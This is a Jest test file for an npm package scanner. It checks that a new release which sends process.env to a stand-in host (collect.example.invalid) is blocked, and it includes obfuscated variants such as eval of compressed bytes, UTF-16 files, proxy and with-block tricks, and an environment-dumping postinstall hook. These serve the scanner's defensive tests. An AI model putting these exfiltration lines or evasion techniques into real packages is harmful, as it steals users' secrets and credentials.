import { describe, expect, test } from '@jest/globals';
import { createHash } from 'node:crypto';
import type { JsonObject } from '../../src/core/json.js';
import { judgePair, type Judged } from './pair.js';

type Files = { readonly [path: string]: string | Uint8Array };
const judged = (files: Files, manifest: JsonObject = {}): Promise<Judged> => judgePair({
  name: 'left', before: { version: '1.0.0', publishedAt: '2026-07-10T00:00:00.000Z', files: { 'index.js': 'module.exports = 1;\n' } },
  after: { version: '1.0.1', publishedAt: '2026-11-20T00:00:00.000Z', manifest, files: { 'index.js': 'module.exports = 1;\n', ...files } },
});
const open = 'fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(process.env) });\n';
/** Bytes that hardly pack, so that what is deep is not also a bomb. */
const noise = Array.from({ length: 4_000 }, (_, index) => createHash('sha256').update(String(index)).digest('base64url')).join('');
const utf16 = (text: string): Uint8Array => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

/**
 * The same act, each time behind something that a reader cannot see through. It may be told as what it is, as what hides it, or as what could
 * not be read; it is never quieter than a warning, and where the file runs by itself it blocks or could not be checked.
 */
const hidden: readonly (readonly [string, Files, JsonObject?])[] = [
  ['code of a text that nobody knows', { 'index.js': 'module.exports = 1;\neval(require("zlib").inflateSync(require("fs").readFileSync(__dirname + "/x.bin")).toString());\n', 'x.bin': Buffer.from([1, 2, 3, 250]) }],
  ['a module of a name that nobody knows, with the file beside it', { 'index.js': 'require(require("os").arch() + globalThis.x);\n', 'part.js': open }],
  ['a file that no parser takes, loaded', { 'index.js': 'require("./part.js");\n', 'part.js': `${open}]]]` }],
  ['a file that stops in the middle', { 'index.js': `${open}function (` }],
  ['a file of 16 bit characters', { 'index.js': 'require("./part.js");\n', 'part.js': utf16(open) }],
  ['brackets without end', { 'index.js': `${open}// ${noise}\n${'['.repeat(200_000)}` }],
  ['calls without end', { 'index.js': `${open}// ${noise}\n${'f('.repeat(100_000)}${')'.repeat(100_000)}` }],
  ['an install step of an unknown language', { 'setup.rb': 'puts ENV.to_h\n' }, { scripts: { postinstall: 'ruby setup.rb' } }],
  ['an install step that is no command', {}, { scripts: { postinstall: '$($X)' } }],
];

/** Ways through which the environment is not followed yet. */
const missed: readonly (readonly [string, Files, JsonObject?])[] = [
  ['a member of a name that is put together at run time', { 'index.js': 'const k = Object.keys(globalThis).find((one) => one.length === 5 && one[0] === "f"); globalThis[k]("https://collect.example.invalid/", { body: JSON.stringify(process["e" + "nv"]) });\n' }],
  ['a proxy in between', { 'index.js': 'const p = new Proxy({}, { get: (_, name) => process[name] }); fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(p.env) });\n' }],
  ['with', { 'index.js': 'with (process) { fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(env) }); }\n' }],
];

describe('what cannot be seen through is no better off', () => {
  test('the same in the open blocks', async () => expect((await judged({ 'index.js': open })).outcome).toBe('block'));
  // To be moved up once it is followed, or told as what nobody can follow.
  test.failing.each(missed)('not stopped yet: %s', async (_what, files, manifest = {}) => {
    expect((await judged(files, manifest)).outcome).not.toBe('pass');
  });
  test.each(hidden)('%s', async (_what, files, manifest = {}) => {
    const { outcome, findings, gaps } = await judged(files, manifest);
    expect({ outcome, told: findings.filter((one) => one.level === 'default').map((one) => `${one.check} ${one.severity}`), gaps }).toEqual(expect.objectContaining({ outcome: expect.stringMatching(/^(?:block|unknown|warn)$/) }));
  });
});
